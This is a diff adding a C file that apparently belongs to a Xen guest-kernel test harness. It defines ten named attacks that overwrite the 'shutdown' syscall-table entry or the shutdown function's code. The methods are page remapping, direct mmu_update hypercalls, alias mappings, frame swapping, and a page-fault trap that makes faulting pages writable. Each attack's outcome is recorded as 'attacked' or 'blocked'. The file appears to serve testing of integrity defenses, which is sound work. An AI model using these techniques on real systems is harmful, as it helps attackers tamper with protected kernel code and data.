@@ -1,0 +1,202 @@
+#include "attacks.h"
+
+#include <stddef.h>
+#include <stdint.h>
+
+#include "hypercall.h"
+#include "mm.h"
+#include "state.h"
+#include "syscalls.h"
+#include "text.h"
+#include "traps.h"
+
+#define WORD_SIZE sizeof(uint64_t)
+
+extern char empty_start[], empty_end[], mute_fault_entry[];
+
+/* Takes the place of `shutdown`. In a section of its own, so that its length is known. */
+__attribute__((section(".empty_function"), noipa)) static void empty(const char *argument,
+                                                                    char *answer)
+{
+    (void)argument;
+    (void)answer;
+}
+
+/* The slot that holds the address of `shutdown`, as it is reached through a mapping of its page. */
+static volatile uint64_t *table_slot(volatile void *page)
+{
+    uint64_t offset = (uint64_t)&sys_call_table[shutdown_p] % PAGE_SIZE;
+
+    return (volatile uint64_t *)((uint64_t)page + offset);
+}
+
+static volatile uint8_t *shutdown_code(volatile void *page)
+{
+    return (volatile uint8_t *)((uint64_t)page + (uint64_t)shutdown % PAGE_SIZE);
+}
+
+static void *page_of(const volatile void *address)
+{
+    return (void *)((uint64_t)address & -(uint64_t)PAGE_SIZE);
+}
+
+static long write_data(volatile void *table_page)
+{
+    *table_slot(table_page) = (uint64_t)empty;
+    return 0;
+}
+
+static long write_code(volatile void *code_page)
+{
+    for (unsigned i = 0; i < empty_end - empty_start; i++)
+        shutdown_code(code_page)[i] = (uint8_t)empty_start[i];
+    return 0;
+}
+
+static long make_writable(const volatile void *address)
+{
+    return mm_set_entry(address, mm_entry(address) | PAGE_WRITABLE);
+}
+
+/* Writes a word of any own frame: Xen checks the type of the frame, not who maps it how. */
+static long write_frame(const volatile void *address, uint64_t word)
+{
+    struct mmu_update update = {
+        .ptr = mm_machine_address(address) | MMU_NORMAL_PT_UPDATE,
+        .val = word,
+    };
+
+    return hypercall_mmu_update(&update, 1);
+}
+
+/* Maps the frame behind an address a second time, writable; that mapping stays. */
+static long map_alias(const volatile void *address, enum spare_page spare)
+{
+    return mm_set_entry(mm_spare_address(spare),
+                        (mm_entry(address) & PAGE_FRAME_MASK) | PAGE_READ_WRITE);
+}
+
+static long data_attack(void)
+{
+    return write_data(page_of(sys_call_table));
+}
+
+static long code_attack(void)
+{
+    return write_code(page_of(shutdown));
+}
+
+static long data_attack_remap(void)
+{
+    long result = make_writable(sys_call_table);
+
+    return result ? result : data_attack();
+}
+
+static long code_attack_remap(void)
+{
+    long result = make_writable(shutdown);
+
+    return result ? result : code_attack();
+}
+
+static long data_attack_hypercall(void)
+{
+    return write_frame(&sys_call_table[shutdown_p], (uint64_t)empty);
+}
+
+static long code_attack_hypercall(void)
+{
+    uint64_t words[4];
+    size_t length = (size_t)(empty_end - empty_start);
+    long result = 0;
+
+    memcpy(words, (const void *)shutdown, sizeof(words));
+    memcpy(words, empty_start, length < sizeof(words) ? length : sizeof(words));
+    for (unsigned i = 0; !result && i * WORD_SIZE < length; i++)
+        result = write_frame((const uint64_t *)shutdown + i, words[i]);
+    return result;
+}
+
+static long data_attack_alias(void)
+{
+    long result = map_alias(sys_call_table, SPARE_DATA_ALIAS);
+
+    return result ? result : write_data(mm_spare_address(SPARE_DATA_ALIAS));
+}
+
+static long code_attack_alias(void)
+{
+    long result = map_alias(shutdown, SPARE_CODE_ALIAS);
+
+    return result ? result : write_code(mm_spare_address(SPARE_CODE_ALIAS));
+}
+
+/* The flags of the entry stay as they are; only the frame is another one. */
+static long data_attack_swap(void)
+{
+    void *table_page = page_of(sys_call_table);
+    void *copy = mm_allocate_page();
+    uint64_t flags = mm_entry(table_page) & ~PAGE_FRAME_MASK;
+
+    memcpy(copy, table_page, PAGE_SIZE);
+    write_data(copy);
+    return mm_set_entry(table_page, (mm_entry(copy) & PAGE_FRAME_MASK) | flags);
+}
+
+void mute_fault(struct registers *registers)
+{
+    const void *address = (const void *)shared_info.vcpu_info[0].arch.cr2;
+
+    if (make_writable(address))
+        abandon_guarded_call(registers, (uint64_t)address);
+}
+
+static long mute_attack(void)
+{
+    const struct trap_info mute[] = {
+        {
+            .vector = PAGE_FAULT_VECTOR,
+            .flags = TRAP_DISABLES_EVENTS,
+            .cs = FLAT_KERNEL_CS,
+            .address = (unsigned long)mute_fault_entry,
+        },
+        {.address = 0},
+    };
+    long result = hypercall_set_trap_table(mute);
+
+    return result ? result : data_attack();
+}
+
+#define ATTACK(function) {#function, function}
+
+static const struct {
+    const char *name;
+    long (*run)(void);
+} attacks[] = {
+    ATTACK(data_attack),
+    ATTACK(code_attack),
+    ATTACK(data_attack_remap),
+    ATTACK(code_attack_remap),
+    ATTACK(data_attack_hypercall),
+    ATTACK(code_attack_hypercall),
+    ATTACK(data_attack_alias),
+    ATTACK(code_attack_alias),
+    ATTACK(data_attack_swap),
+    ATTACK(mute_attack),
+};
+
+bool attack_by_name(const char *name, char *answer)
+{
+    for (unsigned i = 0; i < sizeof(attacks) / sizeof(attacks[0]); i++) {
+        if (!text_equal(name, attacks[i].name))
+            continue;
+        state_set("attacking %s", name);
+        bool done = guarded_call(attacks[i].run) == 0;
+
+        state_set("%s %s", done ? "attacked" : "blocked", name);
+        text_copy(answer, ANSWER_SIZE, done ? "done" : "blocked");
+        return true;
+    }
+    return false;
+}
